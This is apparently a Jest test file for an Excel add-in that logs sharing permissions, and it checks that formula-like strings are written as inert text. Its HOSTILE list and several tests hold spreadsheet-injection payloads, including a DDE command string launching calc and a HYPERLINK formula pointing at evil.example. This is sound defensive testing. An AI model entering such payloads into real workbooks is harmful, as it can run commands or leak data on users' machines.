import {
  PERMISSION_LOG_COLUMNS,
  PERMISSION_LOG_TABLE,
  SHARED_AT_FORMAT,
  sharedAtIso,
} from "../../src/core/permission-log";
import { ACCESS_SHEET, ACCESS_TABLE, ACCESS_TABLE_COLUMNS } from "../../src/core/results";
import { createExcelWorkbookPort } from "../../src/office/excel-workbook";
import { installExcelSimulator } from "../excel-sim/install";
import { WorkbookModel } from "../../workbench/excel-model/model";

let model: WorkbookModel;
let uninstall: () => void;
const port = createExcelWorkbookPort();

beforeEach(() => {
  model = new WorkbookModel({
    sheets: ["Sheet1"],
    documentUrl: "https://contoso.sharepoint.com/sites/x/Book.xlsx",
  });
  uninstall = installExcelSimulator(model);
});

afterEach(() => uninstall());

function emails(n: number): string[][] {
  return Array.from({ length: n }, (_, i) => [`user${i + 1}@contoso.com`]);
}

/** Syncs made by `action`. */
async function syncsOf<T>(action: () => Promise<T>): Promise<{ result: T; syncs: number }> {
  const before = model.syncCount;
  const result = await action();
  return { result, syncs: model.syncCount - before };
}

function logRow(recipient: string, note = ""): string[] {
  const row: string[] = PERMISSION_LOG_COLUMNS.map(() => "");
  row[1] = recipient;
  row[PERMISSION_LOG_COLUMNS.length - 1] = note;
  return row;
}

describe("readSelection", () => {
  test("a header and 50 addresses come back in two syncs", async () => {
    model.setValues("Sheet1", "B1", [["Email"], ...emails(50)]);
    model.select("Sheet1", "B1:B51");
    const { result, syncs } = await syncsOf(() => port.readSelection());
    expect(syncs).toBe(2);
    expect(result.areas).toHaveLength(1);
    const [area] = result.areas;
    expect(area).toMatchObject({ sheet: "Sheet1", rowIndex: 0, columnIndex: 1 });
    expect(area?.values).toHaveLength(51);
    expect(area?.values[0]).toEqual(["Email"]);
    expect(area?.values[50]).toEqual(["user50@contoso.com"]);
    expect(area?.valueTypes?.[1]).toEqual(["String"]);
    expect(area?.hiddenRows?.every((hidden) => !hidden)).toBe(true);
  });

  test("a whole-column selection is clipped to the used range (30 rows, not 1,048,576) in two syncs", async () => {
    model.setValues("Sheet1", "B1", emails(30));
    model.select("Sheet1", "B:B");
    const { result, syncs } = await syncsOf(() => port.readSelection());
    expect(syncs).toBe(2);
    expect(result.areas).toHaveLength(1);
    expect(result.areas[0]?.values).toHaveLength(30);
    expect(result.areas[0]?.values[29]).toEqual(["user30@contoso.com"]);
    const valueReads = model.operations.filter(
      (op) => op.kind === "load" && op.properties?.includes("values"),
    );
    expect(Math.max(...valueReads.map((op) => op.cells ?? 0))).toBeLessThanOrEqual(30);
  });

  test("a whole-row selection is clipped to the used columns", async () => {
    model.setValues("Sheet1", "A2", [["a@contoso.com", "b@contoso.com", "c@contoso.com"]]);
    model.select("Sheet1", "2:2");
    const { areas } = await port.readSelection();
    expect(areas).toEqual([
      expect.objectContaining({
        rowIndex: 1,
        columnIndex: 0,
        values: [["a@contoso.com", "b@contoso.com", "c@contoso.com"]],
      }),
    ]);
  });

  test("rows hidden by a filter are marked hidden", async () => {
    model.setValues("Sheet1", "B1", [["Email"], ...emails(9)]);
    model.hideRows("Sheet1", [5, 7]);
    model.select("Sheet1", "B1:B10");
    const { result, syncs } = await syncsOf(() => port.readSelection());
    expect(syncs).toBe(2);
    const hidden = result.areas[0]?.hiddenRows ?? [];
    expect(hidden.flatMap((h, i) => (h ? [i + 1] : []))).toEqual([5, 7]);
  });

  test("an area whose rows are all hidden is marked all hidden", async () => {
    model.setValues("Sheet1", "B1", emails(5));
    model.hideRows("Sheet1", [2, 3]);
    model.select("Sheet1", "B2:B3");
    const { areas } = await port.readSelection();
    expect(areas[0]?.hiddenRows).toEqual([true, true]);
  });

  test("every area of a multi-area selection is returned, with its position", async () => {
    model.setValues("Sheet1", "B1", emails(3));
    model.setValues("Sheet1", "D5", [["x@contoso.com"], ["y@contoso.com"]]);
    model.select("Sheet1", "B1:B3,D5:D6");
    const { result, syncs } = await syncsOf(() => port.readSelection());
    expect(syncs).toBe(2);
    expect(result.areas.map((a) => [a.rowIndex, a.columnIndex, a.values])).toEqual([
      [0, 1, emails(3)],
      [4, 3, [["x@contoso.com"], ["y@contoso.com"]]],
    ]);
  });

  test("an area on a sheet whose name needs quoting is read", async () => {
    model.addSheet("My Sheet");
    model.setValues("My Sheet", "A1", emails(2));
    model.hideRows("My Sheet", [2]);
    model.select("My Sheet", "A1:A2");
    const { areas } = await port.readSelection();
    expect(areas[0]).toMatchObject({ sheet: "My Sheet", values: emails(2), hiddenRows: [false, true] });
  });

  test("besideValues carry the column to the right of each area", async () => {
    model.setValues("Sheet1", "B1", [
      ["a@contoso.com", "Granted"],
      ["b@contoso.com", null],
      ["c@contoso.com", 42],
    ]);
    model.select("Sheet1", "B1:B3");
    const { areas } = await port.readSelection();
    expect(areas[0]?.besideValues).toEqual(["Granted", "", 42]);
  });

  test("a formula beside the selection is reported by its formula, still in two syncs", async () => {
    model.setValues("Sheet1", "B1", [
      ["a@contoso.com", '="Granted: can view"'],
      ["b@contoso.com", "Granted: can view"],
    ]);
    model.select("Sheet1", "B1:B2");
    const { result, syncs } = await syncsOf(() => port.readSelection());
    expect(syncs).toBe(2);
    expect(result.areas[0]?.besideValues).toEqual(['="Granted: can view"', "Granted: can view"]);
  });

  test("numbers, booleans and error values keep their types", async () => {
    model.setValues("Sheet1", "A1", [[12], [true], ["#N/A"]]);
    model.select("Sheet1", "A1:A3");
    const { areas } = await port.readSelection();
    expect(areas[0]?.values).toEqual([[12], [true], ["#N/A"]]);
    expect(areas[0]?.valueTypes).toEqual([["Double"], ["Boolean"], ["Error"]]);
  });

  test("a selection outside the used range, or on an empty sheet, gives no areas", async () => {
    model.select("Sheet1", "C3:C9");
    expect(await port.readSelection()).toEqual({ areas: [] });
    model.setValues("Sheet1", "A1", emails(2));
    model.select("Sheet1", "C3:C9,F1");
    expect(await port.readSelection()).toEqual({ areas: [] });
  });

  test("an area partly outside the used range keeps only the used part", async () => {
    model.setValues("Sheet1", "B3", emails(4));
    model.select("Sheet1", "B1:B100");
    const { areas } = await port.readSelection();
    expect(areas[0]).toMatchObject({ rowIndex: 2, columnIndex: 1, values: emails(4) });
  });

  test("a 10,000-row selection is still read in two syncs", async () => {
    model.setValues("Sheet1", "A1", emails(10_000));
    model.select("Sheet1", "A:A");
    const { result, syncs } = await syncsOf(() => port.readSelection());
    expect(syncs).toBe(2);
    expect(result.areas[0]?.values).toHaveLength(10_000);
    expect(result.areas[0]?.besideValues).toHaveLength(10_000);
  });
});

describe("documentUrl", () => {
  test("gives the document's URL, or undefined for an unsaved workbook", () => {
    expect(port.documentUrl()).toBe("https://contoso.sharepoint.com/sites/x/Book.xlsx");
    model.documentUrl = "";
    expect(port.documentUrl()).toBeUndefined();
  });
});

describe("ensureLog", () => {
  test("creates the Permissions sheet with the log table, its columns formatted as text", async () => {
    expect(await port.ensureLog()).toBe("Permissions");
    expect(model.sheetNames()).toEqual(["Sheet1", "Permissions"]);
    expect(model.tableInfo(PERMISSION_LOG_TABLE)).toMatchObject({
      sheet: "Permissions",
      headers: [...PERMISSION_LOG_COLUMNS],
      rowCount: 0,
    });
    expect(model.cell("Permissions", "A5000").numberFormat).toBe("@");
    expect(model.cell("Permissions", "Q2").numberFormat).toBe("@");
  });

  test("is idempotent", async () => {
    await port.ensureLog();
    const { result, syncs } = await syncsOf(() => port.ensureLog());
    expect(result).toBe("Permissions");
    expect(syncs).toBe(1);
    expect(model.sheetNames()).toEqual(["Sheet1", "Permissions"]);
    expect(model.tables).toHaveLength(1);
  });

  test("finds the table wherever it is, even on a renamed sheet", async () => {
    await port.ensureLog();
    const sheet = model.sheet("Permissions");
    model.renameSheet(sheet, "Audit");
    expect(await port.ensureLog()).toBe("Audit");
    expect(model.tables).toHaveLength(1);
  });

  test("never writes over a Permissions sheet that holds data: it uses Permissions (2)", async () => {
    model.addSheet("Permissions");
    model.setValues("Permissions", "A1", [["my own notes", "=1+1"]]);
    expect(await port.ensureLog()).toBe("Permissions (2)");
    expect(model.getValues("Permissions", "A1:B1")).toEqual([["my own notes", 2]]);
    expect(model.cell("Permissions", "A1").numberFormat).toBe("General");
    expect(model.cell("Permissions", "C9").numberFormat).toBe("General");
    expect(model.tableInfo(PERMISSION_LOG_TABLE)?.sheet).toBe("Permissions (2)");
  });

  test("skips every occupied candidate name", async () => {
    model.addSheet("Permissions");
    model.addSheet("Permissions (2)");
    model.setValues("Permissions", "A1", [["x"]]);
    model.setValues("Permissions (2)", "C3", [["y"]]);
    expect(await port.ensureLog()).toBe("Permissions (3)");
  });

  test("uses an existing empty Permissions sheet", async () => {
    model.addSheet("Permissions");
    expect(await port.ensureLog()).toBe("Permissions");
    expect(model.sheetNames()).toEqual(["Sheet1", "Permissions"]);
    expect(model.tableInfo(PERMISSION_LOG_TABLE)?.sheet).toBe("Permissions");
  });
});

describe("flush", () => {
  test("appends log rows below earlier ones, one sync per flush", async () => {
    await port.ensureLog();
    const first = await syncsOf(() =>
      port.flush({ logRows: [logRow("a@contoso.com"), logRow("b@contoso.com")], statuses: [] }),
    );
    const second = await syncsOf(() => port.flush({ logRows: [logRow("c@contoso.com")], statuses: [] }));
    expect([first.syncs, second.syncs]).toEqual([1, 1]);
    expect(model.tableRows(PERMISSION_LOG_TABLE).map((row) => row[1])).toEqual([
      "a@contoso.com",
      "b@contoso.com",
      "c@contoso.com",
    ]);
    expect(model.getValues("Permissions", "B4")).toEqual([["c@contoso.com"]]);
  });

  test('"Shared at" lands as a date and time in the local time zone; older ISO-text rows still read back', async () => {
    const local = (ms: number) => new Date(ms).getTimezoneOffset();
    await port.ensureLog();
    // A row written by an older build: "Shared at" as ISO text.
    const old = logRow("old@contoso.com");
    old[0] = "2026-01-05T08:00:00.000Z";
    const table = model.findTable(PERMISSION_LOG_TABLE);
    if (!table) throw new Error("no log table");
    model.addTableRows(table, null, [old]);
    const row = logRow("=cmd|' /C calc'!A0");
    row[0] = "2026-07-01T10:00:00.000Z";
    await port.flush({ logRows: [row], statuses: [] });
    const shared = model.cell("Permissions", "A3");
    // 1 July 2026 is day 46204; 10:00 UTC is shown in this machine's local time.
    const localHours = 10 - local(Date.UTC(2026, 6, 1, 10)) / 60;
    expect(shared.valueType).toBe("Double");
    expect(shared.value).toBeCloseTo(46204 + localHours / 24, 9);
    expect(shared.numberFormat).toBe(SHARED_AT_FORMAT);
    expect(model.cell("Permissions", "B3")).toMatchObject({ value: "=cmd|' /C calc'!A0", numberFormat: "@" });
    expect(model.cell("Permissions", "B3").formula).toBeUndefined();
    expect(model.cell("Permissions", "A2")).toMatchObject({ value: "2026-01-05T08:00:00.000Z" });
    const read = model.tableRows(PERMISSION_LOG_TABLE).map((r) => sharedAtIso(r[0], local));
    expect(read).toEqual(["2026-01-05T08:00:00.000Z", "2026-07-01T10:00:00.000Z"]);
  });

  test("log rows and statuses go out in separate syncs (one refused cannot take the other down)", async () => {
    await port.ensureLog();
    model.setValues("Sheet1", "B1", emails(3));
    const { syncs } = await syncsOf(() =>
      port.flush({
        logRows: [logRow("user1@contoso.com")],
        statuses: [{ sheet: "Sheet1", row: 0, column: 2, text: "Granted" }],
      }),
    );
    expect(syncs).toBe(2);
    expect(model.getValues("Sheet1", "C1")).toEqual([["Granted"]]);
    expect(model.tableRows(PERMISSION_LOG_TABLE)).toHaveLength(1);
  });

  test("formula-like strings land as text, in the status column and in the log", async () => {
    await port.ensureLog();
    const hyperlink = '=HYPERLINK("http://x","y")';
    await port.flush({
      logRows: [logRow("=1+1", "-2+3")],
      statuses: [{ sheet: "Sheet1", row: 1, column: 2, text: hyperlink }],
    });
    const status = model.cell("Sheet1", "C2");
    expect(status.formula).toBeUndefined();
    expect(status.value).toBe(hyperlink);
    const logged = model.cell("Permissions", "B2");
    expect(logged.formula).toBeUndefined();
    expect(logged.value).toBe("=1+1");
    expect(model.cell("Permissions", "Q2")).toMatchObject({ value: "-2+3", valueType: "String" });
  });

  test("statuses in consecutive rows go out as one range write, formatted as text before the values", async () => {
    const statuses = [3, 1, 2, 5].map((row) => ({ sheet: "Sheet1", row, column: 2, text: `status ${row}` }));
    await port.flush({ logRows: [], statuses });
    const writes = model.operations.filter((op) => op.sync === model.syncCount && op.kind === "set");
    expect(writes.map((op) => [op.member, op.address])).toEqual([
      ["Range.numberFormat", "Sheet1!C2:C4"],
      ["Range.values", "Sheet1!C2:C4"],
      ["Range.numberFormat", "Sheet1!C6"],
      ["Range.values", "Sheet1!C6"],
    ]);
    expect(model.getValues("Sheet1", "C2:C6")).toEqual([
      ["status 1"],
      ["status 2"],
      ["status 3"],
      [""],
      ["status 5"],
    ]);
  });

  test("nothing to write makes no round trip", async () => {
    const { syncs } = await syncsOf(() => port.flush({ logRows: [], statuses: [] }));
    expect(syncs).toBe(0);
  });

  test("Excel's errors reach the caller", async () => {
    await expect(port.flush({ logRows: [logRow("a@contoso.com")], statuses: [] })).rejects.toMatchObject({
      code: "ItemNotFound",
    });
    await expect(
      port.flush({ logRows: [], statuses: [{ sheet: "Gone", row: 0, column: 0, text: "x" }] }),
    ).rejects.toMatchObject({ code: "ItemNotFound" });
  });
});

/** Strings from cells and from Graph that Excel would run, or turn into something else, in a General cell. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak","click")',
  "-3+3",
  "+1+1",
  "@SUM(1,2)",
  "\t=1+1",
  "\r=1+1",
  "\uff1d1+1",
  "\uff0b1",
  "\uff0d1",
  "\uff20SUM(1)",
  "0123",
  "TRUE",
  "#N/A",
  "12",
  "'quoted",
  "plain text",
];

/** A table of `headers` on `sheet` made the way a person (or an older build) makes one: General cells. */
function generalTable(sheet: string, name: string, headers: readonly string[]): void {
  if (!model.findSheet(sheet)) model.addSheet(sheet);
  model.setValues(sheet, "A1", [[...headers]]);
  const table = model.addTable(
    model.sheet(sheet),
    { rowIndex: 0, columnIndex: 0, rowCount: 1, columnCount: headers.length },
    true,
  );
  model.renameTable(table, name);
}

/** Every cell of a table's data rows: no formula, and the exact string that was written. */
function expectExactText(tableName: string, rows: string[][]): void {
  const info = model.tableInfo(tableName);
  const sheet = info?.sheet ?? "";
  expect(model.tableRows(tableName)).toEqual(rows);
  model.forEachCell(sheet, (_r, _c, cell) => expect(cell.formula).toBeUndefined());
}

function hostileRows(width: number): string[][] {
  return HOSTILE.map((text, i) =>
    Array.from({ length: width }, (_, c) => HOSTILE[(i + c) % HOSTILE.length] ?? text),
  );
}

describe("text that Excel could read as a formula", () => {
  test("lands as the exact text through a Permissions table that already exists with General cells", async () => {
    generalTable("Permissions", PERMISSION_LOG_TABLE, PERMISSION_LOG_COLUMNS);
    expect(model.cell("Permissions", "B2").numberFormat).toBe("General");
    expect(await port.ensureLog()).toBe("Permissions");
    const rows = hostileRows(PERMISSION_LOG_COLUMNS.length);
    await port.flush({ logRows: rows, statuses: [] });
    expectExactText(PERMISSION_LOG_TABLE, rows);
    // Appending again (a second run) is just as safe.
    await port.flush({ logRows: rows.slice(0, 3), statuses: [] });
    expectExactText(PERMISSION_LOG_TABLE, [...rows, ...rows.slice(0, 3)]);
  });

  test("lands as the exact text through a Current access table that already exists with General cells", async () => {
    generalTable(ACCESS_SHEET, ACCESS_TABLE, ACCESS_TABLE_COLUMNS);
    const rows = hostileRows(ACCESS_TABLE_COLUMNS.length);
    expect(await port.writeAccessTable(rows)).toBe(ACCESS_SHEET);
    expectExactText(ACCESS_TABLE, rows);
    await port.writeAccessTable(rows.slice(2, 5));
    expectExactText(ACCESS_TABLE, rows.slice(2, 5));
  });

  test("a plain string costs one sync; one that starts like a formula is written after its Text format is read back", async () => {
    await port.ensureLog();
    const plain = await syncsOf(() => port.flush({ logRows: [logRow("a@contoso.com")], statuses: [] }));
    expect(plain.syncs).toBe(1);
    const hostile = await syncsOf(() => port.flush({ logRows: [logRow("=1+1")], statuses: [] }));
    expect(hostile.syncs).toBe(2);
    expect(model.tableRows(PERMISSION_LOG_TABLE).map((r) => r[1])).toEqual(["a@contoso.com", "=1+1"]);
  });

  test("if the Text format were lost, a formula-like string is left out and reported, never entered", async () => {
    generalTable("Permissions", PERMISSION_LOG_TABLE, PERMISSION_LOG_COLUMNS);
    // The host drops every number format write (a protected layout, a host bug): nothing is Text.
    jest.spyOn(model, "writeNumberFormat").mockImplementation(() => undefined);
    const report = await port.flush({ logRows: [logRow("=1+1", "fine")], statuses: [] });
    expect(report).toEqual({ unsafeCells: [{ row: 0, column: 1 }] });
    const [row] = model.tableRows(PERMISSION_LOG_TABLE);
    expect(row?.[1]).toBe("");
    expect(row?.[PERMISSION_LOG_COLUMNS.length - 1]).toBe("fine");
    model.forEachCell("Permissions", (_r, _c, cell) => expect(cell.formula).toBeUndefined());
  });

  test("statuses are written as text even into General cells", async () => {
    model.setValues("Sheet1", "A1", emails(2));
    await port.flush({
      logRows: [],
      statuses: [
        { sheet: "Sheet1", row: 0, column: 1, text: "-3+3" },
        { sheet: "Sheet1", row: 1, column: 1, text: "\uff1d1+1" },
      ],
    });
    expect(model.getValues("Sheet1", "B1:B2")).toEqual([["-3+3"], ["\uff1d1+1"]]);
    expect(model.cell("Sheet1", "B1").formula).toBeUndefined();
  });
});

describe("text too long for a cell", () => {
  test("a 40,000-character string is cut to 1,000 characters ending with an ellipsis, in the log and the status", async () => {
    await port.ensureLog();
    const long = "x".repeat(40_000);
    await port.flush({ logRows: [logRow("a@contoso.com", long)], statuses: [] });
    await port.flush({ logRows: [], statuses: [{ sheet: "Sheet1", row: 0, column: 1, text: long }] });
    const note = String(model.tableRows(PERMISSION_LOG_TABLE)[0]?.[PERMISSION_LOG_COLUMNS.length - 1]);
    expect(note).toHaveLength(1000);
    expect(note.endsWith("x\u2026")).toBe(true);
    expect(String(model.cell("Sheet1", "B1").value)).toBe(note);
  });
});
